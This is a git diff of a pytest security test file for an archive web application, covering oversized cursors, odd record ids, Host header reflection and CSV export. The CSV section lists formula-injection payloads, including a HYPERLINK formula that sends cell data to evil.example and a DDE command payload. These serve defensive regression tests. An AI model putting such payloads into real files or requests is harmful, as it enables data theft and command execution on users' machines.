@@ -7,9 +7,11 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import csv
 import hashlib
 import json
 import os
+import re
 import resource
 import subprocess
 import sys
@@ -21,14 +23,18 @@ from pathlib import Path
 import httpx
 import pytest
 from fastapi.testclient import TestClient
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from lxml import etree
 
 from conftest import free_port
+from crafted import ATTACK
 from curation_helpers import bearer, fast_hashing, login, sample_record, seed  # noqa: F401
 from opis.model import Record
 from opis.model.record import Annotation
 from opis.search.base import MAX_RESULT_WINDOW, SearchRequest
 from opis.services.archive import Archive
+from opis.services.bulk import export_archive, neutralized
 from opis.services.oai import OaiConfig, token_signer
 from opis.services.signing import SignedJSON
 from opis.web.app import create_app
@@ -41,12 +47,6 @@ SRC = str(Path(__file__).resolve().parents[1] / "src")
 # The address space a server under attack may use: ample for opis (about 1 GB), far
 # below the 34 GB the cursor bomb asked for.
 MEMORY_LIMIT = 4 * 1024**3
-
-
-def raw_cursor(value: object) -> str:
-    """A cursor as an attacker makes one: base64url of any JSON, unsigned."""
-    text = json.dumps(value, separators=(",", ":"))
-    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
 
 
 def limited_memory() -> None:
@@ -72,7 +72,6 @@ def test_engine_never_sizes_top_k_by_the_offset(small_archive: Path) -> None:
     code = textwrap.dedent(f"""
         from opis.search.base import SearchRequest
         from opis.services.archive import Archive
-from opis.services.oai import OaiConfig, token_signer
         archive = Archive({str(small_archive)!r})
         for offset in (2**31, 2**62, 10**30):
             for q in ("", "plenum"):
@@ -99,18 +98,6 @@ def test_both_engines_answer_any_window(archive: Archive) -> None:
             assert r.hits == [] and r.total == 3, (offset, q)
     r = archive.search(SearchRequest(query="plenum", offset=1, limit=10**30)).result
     assert len(r.hits) == 2 and r.total == 3
-
-
-def crafted_cursors() -> list[str]:
-    """What the attack sent, and more of its kind: huge and negative offsets, wrong
-    types, deep arrays, base64 of garbage, garbage that is not base64, 10,000 characters."""
-    deep = "[" * 5000 + "]" * 5000
-    return [raw_cursor([2147483648]), raw_cursor([10**30]), raw_cursor([2**62]),
-            raw_cursor([-1]), raw_cursor([1.5]), raw_cursor(["x"]), raw_cursor("x"),
-            raw_cursor({"a": 1}), raw_cursor([]), raw_cursor([True]), raw_cursor(None),
-            base64.urlsafe_b64encode(deep.encode()).decode().rstrip("="),
-            base64.urlsafe_b64encode(b"\xff\xfe\x00garbage").decode(), "%%%", "....",
-            "WzIwXQ", "WzIwXQ.", ".abc", "A" * 10_000]
 
 
 @contextlib.contextmanager
@@ -147,7 +134,7 @@ def test_cursor_bomb_leaves_the_server_standing(small_archive: Path) -> None:
     with served_subprocess(small_archive) as url:
         for path in ("/api/v1/search", "/api/v1/search?q=plenum", "/api/v1/records",
                      "/api/v1/entities"):
-            for cursor in crafted_cursors():
+            for cursor in ATTACK:
                 sep = "&" if "?" in path else "?"
                 r = httpx.get(f"{url}{path}{sep}cursor={cursor}", timeout=30)
                 assert r.status_code == 400, (path, cursor[:80], r.status_code, r.text[:200])
@@ -421,3 +408,179 @@ def test_deeply_nested_form_edits_are_field_errors(
                                               "csrf_token": token})
         assert r.status_code == 422, (depth, r.status_code)
         assert "nested deeper than 32 levels" in r.text
+
+
+# -- 5. record ids -------------------------------------------------------------------------------
+
+def test_odd_record_ids_are_refused_at_ingest(tmp_path: Path) -> None:
+    """Ids with ".", "/" or "<" were stored, and their pages were 404s; now ingest
+    refuses them with a message naming the file and the id, and keeps the good ones."""
+    good = tmp_path / "good.jsonl"
+    good.write_text("\n".join(json.dumps({"record_id": rid, "title": f"Report {rid}",
+                                          "text_body": "Пак Чан Ок и 김일성."})
+                              for rid in ("114165", "frus1955-57v23p2d3", "Письмо-1", "김일성")),
+                    encoding="utf-8")
+    archive = Archive(str(tmp_path / "ids.db"))
+    try:
+        report = archive.ingest([good])
+        assert report.ok and len(report.added) == 4, report.failed
+        for rid, bad in (("a.b", "'.'"), ("a/b", "'/'"), ("a<b>", "'<'"), ("-x", "start")):
+            path = tmp_path / f"bad-{len(rid)}-{ord(rid[1])}.jsonl"
+            path.write_text(json.dumps({"record_id": rid, "title": "Odd"}), encoding="utf-8")
+            report = archive.ingest([path])
+            assert not report.ok and report.failed[0].path == str(path)
+            message = report.failed[0].message
+            assert repr(rid) in message and bad in message, message
+            assert archive.get(rid) is None
+    finally:
+        archive.close()
+
+
+LEGACY_IDS = ["a.b", "a/b", "a<b>", "a b?c#d%", "Пак/1.json", "“x”&y"]
+
+
+@pytest.fixture
+def legacy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
+    """An archive holding ids from before they were checked."""
+    archive = Archive(str(tmp_path / "legacy.db"))
+    with monkeypatch.context() as m:
+        m.setattr("opis.services.archive.id_problem", lambda _rid: None, raising=False)
+        archive.put([sample_record(rid, f"Legacy record {i}") for i, rid in
+                     enumerate(LEGACY_IDS)])
+    seeded = seed(archive)
+    with TestClient(create_app(archive), raise_server_exceptions=False) as c:
+        c.headers.update(bearer(seeded.tokens["editor"]))
+        yield c
+    archive.close()
+
+
+def test_legacy_odd_ids_are_reachable_through_their_links(legacy: TestClient) -> None:
+    """Every link built from an id is percent-encoded ("/" too), and the routes find
+    the record behind it: page, JSON twin, an export, the API and the history."""
+    from urllib.parse import quote
+
+    page = legacy.get("/search", params={"q": "plenum"}).text
+    for i, rid in enumerate(LEGACY_IDS):
+        url = "/document/" + quote(rid, safe="")
+        assert f'href="{url}"' in page, rid
+        r = legacy.get(url)
+        assert r.status_code == 200 and f"Legacy record {i}" in r.text, (rid, r.status_code)
+        assert legacy.get(url + ".json").json()["id"] == rid
+        assert legacy.get(url + ".ris").status_code == 200
+        assert legacy.get("/api/v1/records/" + quote(rid, safe="")).json()["id"] == rid
+        assert legacy.get(url + "/history.json").json()["id"] == rid
+    hits = legacy.get("/api/v1/search", params={"q": "plenum", "limit": 50}).json()["hits"]
+    assert {h["url"] for h in hits} == {"/document/" + quote(r, safe="") for r in LEGACY_IDS}
+
+
+# -- 6. the Host header -----------------------------------------------------------------------------
+
+EVIL = "evil.example"
+
+
+def absolute_urls(c: TestClient, host: str | None = None) -> list[str]:
+    """OAI-PMH's baseURL and a record identifier, and a document page's citation tags."""
+    headers = {"Host": host} if host else {}
+    identify = etree.fromstring(c.get("/oai", params={"verb": "Identify"},
+                                      headers=headers).content)
+    listed = etree.fromstring(c.get("/oai", params={"verb": "ListIdentifiers",
+                                                    "metadataPrefix": "oai_dc"},
+                                    headers=headers).content)
+    page = c.get("/document/r1", headers=headers).text
+    meta = re.findall(r'<meta name="(?:citation_public_url|DC.identifier)" content="([^"]+)"',
+                      page)
+    ld = json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>',
+                              page, re.S).group(1))["url"]
+    return [identify.findtext(f".//{OAI}baseURL"),
+            listed.findtext(f".//{OAI}header/{OAI}identifier"), *meta, ld]
+
+
+@pytest.fixture
+def host_archive(tmp_path: Path) -> Iterator[Archive]:
+    archive = Archive(str(tmp_path / "host.db"))
+    archive.put([sample_record("r1")])
+    yield archive
+    archive.close()
+
+
+def test_host_header_is_never_reflected(host_archive: Archive,
+                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    """The Host header was copied into OAI-PMH's baseURL, identifiers and the citation
+    tags; without configuration they now name the address the server listens on."""
+    monkeypatch.delenv("OPIS_BASE_URL", raising=False)
+    monkeypatch.delenv("OPIS_ALLOWED_HOSTS", raising=False)
+    c = TestClient(create_app(host_archive))
+    urls = absolute_urls(c, EVIL)
+    assert not any(EVIL in u for u in urls), urls
+    assert urls == ["http://testserver/oai", "oai:testserver:r1",
+                    "http://testserver/document/r1", "http://testserver/document/r1",
+                    "http://testserver/document/r1"]
+
+
+def test_absolute_urls_come_from_the_base_url(host_archive: Archive,
+                                              monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPIS_BASE_URL", "https://archive.example.org/opis/")
+    c = TestClient(create_app(host_archive))
+    base = "https://archive.example.org/opis"
+    assert absolute_urls(c, EVIL) == [f"{base}/oai", "oai:archive.example.org:r1",
+                                      f"{base}/document/r1", f"{base}/document/r1",
+                                      f"{base}/document/r1"]
+    for bad in ("archive.example.org", "ftp://x.org", "https://x.org/?a=1", "https://"):
+        monkeypatch.setenv("OPIS_BASE_URL", bad)
+        with pytest.raises(ValueError, match="OPIS_BASE_URL"):
+            create_app(host_archive)
+
+
+def test_allowed_hosts_refuse_other_names(host_archive: Archive,
+                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("OPIS_BASE_URL", raising=False)
+    monkeypatch.setenv("OPIS_ALLOWED_HOSTS", "archive.example.org, *.mirror.example.org")
+    c = TestClient(create_app(host_archive))
+    assert c.get("/healthz", headers={"Host": EVIL}).status_code == 400
+    assert absolute_urls(c, "eu.mirror.example.org")[0] == "http://eu.mirror.example.org/oai"
+    assert absolute_urls(c, "archive.example.org")[1] == "oai:archive.example.org:r1"
+
+
+# -- 7. CSV formula injection -------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Пак")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=김일성()"]
+
+
+def test_csv_export_neutralizes_formulas(tmp_path: Path) -> None:
+    """Cells starting with = + - @ (or tab, CR) were written unchanged, so a donor's
+    title ran as a formula in the curator's spreadsheet; now each gets a "'" in front
+    (shown as text, hidden by spreadsheets) and reads back as the value it was."""
+    archive = Archive(str(tmp_path / "csv.db"))
+    try:
+        records = []
+        for i, formula in enumerate(FORMULAS):
+            r = sample_record(f"f{i}", formula)
+            r.subjects = [formula]
+            r.date = "-0044" if i == 0 else "1956-12-28"
+            records.append(r)
+        plain = sample_record("plain", "“Plain” Đặng Пак 毛泽东 - not a formula")
+        records.append(plain)
+        archive.put(records)
+        out = tmp_path / "records.csv"
+        export_archive(archive, "csv", out)
+        with out.open(newline="", encoding="utf-8") as f:
+            rows = {row["id"]: row for row in csv.DictReader(f)}
+    finally:
+        archive.close()
+    for i, formula in enumerate(FORMULAS):
+        row = rows[f"f{i}"]
+        assert row["title"] == "'" + formula and row["subjects"] == "'" + formula
+    assert rows["f0"]["date"] == "-0044"  # a number is not a formula
+    assert rows["plain"]["title"] == plain.title
+    assert rows["plain"]["date"] == "1956-12-28"
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=30))
+def test_no_neutralized_cell_starts_a_formula(cell: str) -> None:
+    """Whatever the text, what is written either cannot start a formula or is a number."""
+    out = neutralized(cell)
+    assert out in (cell, "'" + cell)
+    if out.startswith(("=", "+", "-", "@", "\t", "\r")):
+        assert re.fullmatch(r"[+-]\d[\d,.]*", out), out
